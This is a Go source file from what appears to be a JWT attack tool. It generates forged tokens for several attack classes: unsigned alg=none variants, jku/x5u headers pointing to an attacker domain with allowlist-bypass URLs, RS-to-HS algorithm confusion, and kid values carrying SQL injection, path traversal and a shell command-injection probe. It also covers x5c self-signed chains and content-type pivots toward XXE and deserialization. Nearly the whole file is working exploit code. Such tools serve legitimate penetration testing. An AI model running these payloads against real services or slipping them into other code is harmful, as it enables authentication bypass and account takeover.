// Package payload generates variant tokens exercising known JWT attack
// classes: alg=none, jku/x5u header injection, RS->HS algorithm confusion,
// kid injection, x5c chain substitution and content-type pivots.
package payload

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"

	"github.com/hardwaylabs/jwt-hack/pkg/token"
)

// Kind names an attack class.
type Kind string

const (
	KindNone         Kind = "none"
	KindJKU          Kind = "jku"
	KindX5U          Kind = "x5u"
	KindAlgConfusion Kind = "alg_confusion"
	KindKidSQL       Kind = "kid_sql"
	KindX5C          Kind = "x5c"
	KindCTY          Kind = "cty"
)

// AllKinds lists every supported attack class in generation order.
var AllKinds = []Kind{KindNone, KindJKU, KindX5U, KindAlgConfusion, KindKidSQL, KindX5C, KindCTY}

// Payload is one generated attack token. Extra carries out-of-band
// material the tester needs to host or serve (e.g. a JWKS document).
type Payload struct {
	Kind  Kind
	Name  string
	Token string
	Note  string
	Extra []byte
}

// Options configures payload generation.
type Options struct {
	// TrustDomain is a domain the target is known to trust (jku/x5u
	// bypass shapes). Optional.
	TrustDomain string
	// AttackDomain is the tester-controlled domain the jku/x5u headers
	// point at.
	AttackDomain string
	// Protocol is http or https, default https.
	Protocol string
	// PublicKeyPEM, when present, lets alg_confusion produce a properly
	// HMAC-signed downgrade token.
	PublicKeyPEM []byte
}

// ParseTargets turns the comma-separated --target value into a kind list.
// "all" (or empty) selects every class.
func ParseTargets(spec string) ([]Kind, error) {
	spec = strings.TrimSpace(spec)
	if spec == "" || spec == "all" {
		return AllKinds, nil
	}
	known := make(map[Kind]bool, len(AllKinds))
	for _, k := range AllKinds {
		known[k] = true
	}
	var kinds []Kind
	for _, part := range strings.Split(spec, ",") {
		k := Kind(strings.TrimSpace(part))
		if k == "all" {
			return AllKinds, nil
		}
		if !known[k] {
			return nil, fmt.Errorf("unknown payload target %q", part)
		}
		kinds = append(kinds, k)
	}
	return kinds, nil
}

// Generate builds attack payloads for the selected kinds. The original
// payload segment is always preserved byte for byte; only the header (and
// the signature, where re-signing applies) changes.
func Generate(tok *token.Token, kinds []Kind, opts Options) ([]Payload, error) {
	if opts.Protocol == "" {
		opts.Protocol = "https"
	}
	if opts.AttackDomain == "" {
		opts.AttackDomain = "attack.example.com"
	}

	var out []Payload
	for _, kind := range kinds {
		var (
			payloads []Payload
			err      error
		)
		switch kind {
		case KindNone:
			payloads, err = noneVariants(tok)
		case KindJKU:
			payloads, err = keyURLVariants(tok, "jku", opts)
		case KindX5U:
			payloads, err = keyURLVariants(tok, "x5u", opts)
		case KindAlgConfusion:
			payloads, err = algConfusion(tok, opts)
		case KindKidSQL:
			payloads, err = kidInjection(tok)
		case KindX5C:
			payloads, err = x5cChain(tok)
		case KindCTY:
			payloads, err = ctyVariants(tok)
		}
		if err != nil {
			return nil, fmt.Errorf("generating %s payloads: %w", kind, err)
		}
		out = append(out, payloads...)
	}
	return out, nil
}

// mutated re-assembles a token with a modified header, the original
// payload segment and the given signature segment.
func mutated(tok *token.Token, sigSegment string, mutate func(map[string]any)) (string, error) {
	header := make(map[string]any, len(tok.Header)+1)
	for k, v := range tok.Header {
		header[k] = v
	}
	mutate(header)
	headerJSON, err := json.Marshal(header)
	if err != nil {
		return "", err
	}
	seg := base64.RawURLEncoding.EncodeToString(headerJSON)
	return seg + "." + tok.RawPayload + "." + sigSegment, nil
}

func noneVariants(tok *token.Token) ([]Payload, error) {
	var out []Payload
	// Case variants defeat naive case-sensitive "alg != none" checks.
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		t, err := mutated(tok, "", func(h map[string]any) { h["alg"] = alg })
		if err != nil {
			return nil, err
		}
		out = append(out, Payload{
			Kind:  KindNone,
			Name:  "none-" + alg,
			Token: t,
			Note:  "unsigned token; accepted by verifiers that honor alg=" + alg,
		})
	}
	return out, nil
}

func keyURLVariants(tok *token.Token, headerKey string, opts Options) ([]Payload, error) {
	type variant struct{ name, url, note string }
	attackURL := fmt.Sprintf("%s://%s/.well-known/jwks.json", opts.Protocol, opts.AttackDomain)
	variants := []variant{
		{headerKey + "-direct", attackURL, "for targets without a " + headerKey + " allowlist"},
	}
	if opts.TrustDomain != "" {
		variants = append(variants,
			variant{
				headerKey + "-userinfo",
				fmt.Sprintf("%s://%s@%s/jwks.json", opts.Protocol, opts.TrustDomain, opts.AttackDomain),
				"userinfo bypass of prefix-matched allowlists",
			},
			variant{
				headerKey + "-subdomain",
				fmt.Sprintf("%s://%s.%s/jwks.json", opts.Protocol, opts.TrustDomain, opts.AttackDomain),
				"trusted name as attacker subdomain",
			},
			variant{
				headerKey + "-path",
				fmt.Sprintf("%s://%s/%s/jwks.json", opts.Protocol, opts.AttackDomain, opts.TrustDomain),
				"trusted name in path for substring-matched allowlists",
			},
			variant{
				headerKey + "-redirect",
				fmt.Sprintf("%s://%s/redirect?url=%s", opts.Protocol, opts.TrustDomain, attackURL),
				"open redirect on the trusted host",
			},
		)
	}

	// A re-signed token plus the JWKS to host at the attack URL turns the
	// header mutation into an end-to-end exploit.
	resigned, err := resignWithFreshKey(tok, map[string]any{headerKey: attackURL})
	if err != nil {
		return nil, err
	}

	var out []Payload
	out = append(out, Payload{
		Kind:  kindOf(headerKey),
		Name:  headerKey + "-resigned",
		Token: resigned.Token,
		Note:  fmt.Sprintf("RS256 re-signed, kid=%s; host Extra (the JWKS) at %s", resigned.Kid, attackURL),
		Extra: resigned.JWKS,
	})
	for _, v := range variants {
		t, err := mutated(tok, tok.RawSignature, func(h map[string]any) { h[headerKey] = v.url })
		if err != nil {
			return nil, err
		}
		out = append(out, Payload{
			Kind:  kindOf(headerKey),
			Name:  v.name,
			Token: t,
			Note:  v.note,
		})
	}
	return out, nil
}

func kindOf(headerKey string) Kind {
	if headerKey == "x5u" {
		return KindX5U
	}
	return KindJKU
}

func algConfusion(tok *token.Token, opts Options) ([]Payload, error) {
	if len(opts.PublicKeyPEM) == 0 {
		t, err := mutated(tok, tok.RawSignature, func(h map[string]any) { h["alg"] = "HS256" })
		if err != nil {
			return nil, err
		}
		return []Payload{{
			Kind:  KindAlgConfusion,
			Name:  "alg-confusion-template",
			Token: t,
			Note:  "header downgraded to HS256; supply the server public key PEM to produce a signed token",
		}}, nil
	}

	headerJSON, err := json.Marshal(map[string]any{"alg": "HS256", "typ": "JWT"})
	if err != nil {
		return nil, err
	}
	signingInput := base64.RawURLEncoding.EncodeToString(headerJSON) + "." + tok.RawPayload
	mac := hmac.New(sha256.New, opts.PublicKeyPEM)
	mac.Write([]byte(signingInput))
	sig := base64.RawURLEncoding.EncodeToString(mac.Sum(nil))

	return []Payload{{
		Kind:  KindAlgConfusion,
		Name:  "alg-confusion-hs256",
		Token: signingInput + "." + sig,
		Note:  "HS256 signed with the PEM bytes as secret; servers differ on exact key-bytes normalization",
	}}, nil
}

func kidInjection(tok *token.Token) ([]Payload, error) {
	kids := []struct{ name, value, note string }{
		{"kid-sqli-or", "' OR '1'='1", "boolean SQL injection via key lookup"},
		{"kid-sqli-union", "x' UNION SELECT 'aaa", "forces the looked-up key to a known value (secret: aaa)"},
		{"kid-traversal", "../../../../../../dev/null", "path traversal to an empty key file"},
		{"kid-cmdi", "| sleep 5", "command injection probe for shell-built key paths"},
	}
	var out []Payload
	for _, k := range kids {
		value := k.value
		t, err := mutated(tok, tok.RawSignature, func(h map[string]any) { h["kid"] = value })
		if err != nil {
			return nil, err
		}
		out = append(out, Payload{Kind: KindKidSQL, Name: k.name, Token: t, Note: k.note})
	}
	return out, nil
}

func x5cChain(tok *token.Token) ([]Payload, error) {
	resigned, err := resignWithSelfSignedCert(tok)
	if err != nil {
		return nil, err
	}
	return []Payload{{
		Kind:  KindX5C,
		Name:  "x5c-self-signed",
		Token: resigned.Token,
		Note:  "RS256 re-signed with an embedded self-signed certificate chain",
		Extra: resigned.JWKS,
	}}, nil
}

func ctyVariants(tok *token.Token) ([]Payload, error) {
	ctys := []struct{ name, value, note string }{
		{"cty-xml", "text/xml", "content-type pivot toward XXE-prone claim parsers"},
		{"cty-java", "application/x-java-serialized-object", "content-type pivot toward java deserialization"},
	}
	var out []Payload
	for _, c := range ctys {
		value := c.value
		t, err := mutated(tok, tok.RawSignature, func(h map[string]any) { h["cty"] = value })
		if err != nil {
			return nil, err
		}
		out = append(out, Payload{Kind: KindCTY, Name: c.name, Token: t, Note: c.note})
	}
	return out, nil
}
